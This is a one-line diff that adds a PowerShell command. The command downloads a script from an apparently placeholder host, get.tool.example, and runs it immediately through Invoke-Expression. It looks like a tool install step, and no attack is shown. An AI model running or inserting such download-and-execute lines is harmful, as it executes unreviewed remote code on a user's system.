@@ -1,0 +1,1 @@
+iwr -UseBasicParsing https://get.tool.example/i.ps1 | iex
